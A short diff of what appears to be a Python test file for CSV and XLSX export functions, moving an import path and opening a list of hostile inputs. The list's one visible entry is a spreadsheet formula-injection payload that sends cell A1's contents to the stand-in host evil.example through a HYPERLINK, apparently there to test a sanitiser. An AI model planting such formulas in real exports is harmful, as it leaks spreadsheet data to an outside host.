@@ -11,7 +11,7 @@ from decimal import Decimal
 import pytest
 from openpyxl import load_workbook
 
-from gateway.settlement.exports import HEAD, csv_bytes, rows, safe, xlsx_bytes
+from gateway.documents.exports import HEAD, csv_bytes, rows, safe, xlsx_bytes
 
 EVIL = [
     '=HYPERLINK("https://evil.example/?"&A1,"pay")',
